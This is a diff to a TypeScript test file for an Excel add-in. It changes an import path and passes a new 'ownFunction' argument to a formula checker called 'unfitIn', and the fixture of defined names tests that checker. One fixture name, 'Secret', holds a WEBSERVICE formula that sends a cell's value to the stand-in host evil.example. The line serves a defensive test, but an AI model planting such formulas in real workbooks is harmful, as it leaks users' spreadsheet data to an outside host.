@@ -1,23 +1,27 @@
 import fc from "fast-check";
-import { unfitIn } from "../../src/taskpane/workbook/fit-formula";
+import { unfitIn } from "../../src/formula/fit";
+import { ownFunction } from "../../src/taskpane/formula/own-formulas";
 import { sourceFunctions } from "../setup/excel";
 
-const unfit = unfitIn({
-  sheets: ["Sheet1", "My sheet", "It's mine", "Jaar 2026", "Zwölf"],
-  names: [
-    { name: "Income", formula: "=Sheet1!$B$2" },
-    { name: "PARAMETER_YEAR", formula: "=2026" },
-    { name: "PARAMETER_INDEXATION", formula: '=""' },
-    { name: "Double", formula: "=LAMBDA(x,x*2)" },
-    { name: "Round", formula: "=Again" },
-    { name: "Again", formula: "=Round+Income" },
-    { name: "Secret", formula: '=WEBSERVICE("http://evil.example/?"&Sheet1!$A$1)' },
-    { name: "Through", formula: "=Secret&1" },
-    { name: "Linked", formula: "='C:\\tmp\\[Rates.xlsx]Rates'!$A$1" },
-    { name: "Twice", formula: "=Sheet1!$A$1" },
-    { name: "Twice", formula: "=INDIRECT(Sheet1!$A$1)" },
-  ],
-});
+const unfit = unfitIn(
+  {
+    sheets: ["Sheet1", "My sheet", "It's mine", "Jaar 2026", "Zwölf"],
+    names: [
+      { name: "Income", formula: "=Sheet1!$B$2" },
+      { name: "PARAMETER_YEAR", formula: "=2026" },
+      { name: "PARAMETER_INDEXATION", formula: '=""' },
+      { name: "Double", formula: "=LAMBDA(x,x*2)" },
+      { name: "Round", formula: "=Again" },
+      { name: "Again", formula: "=Round+Income" },
+      { name: "Secret", formula: '=WEBSERVICE("http://evil.example/?"&Sheet1!$A$1)' },
+      { name: "Through", formula: "=Secret&1" },
+      { name: "Linked", formula: "='C:\\tmp\\[Rates.xlsx]Rates'!$A$1" },
+      { name: "Twice", formula: "=Sheet1!$A$1" },
+      { name: "Twice", formula: "=INDIRECT(Sheet1!$A$1)" },
+    ],
+  },
+  ownFunction,
+);
 
 beforeAll(() => void sourceFunctions());
 
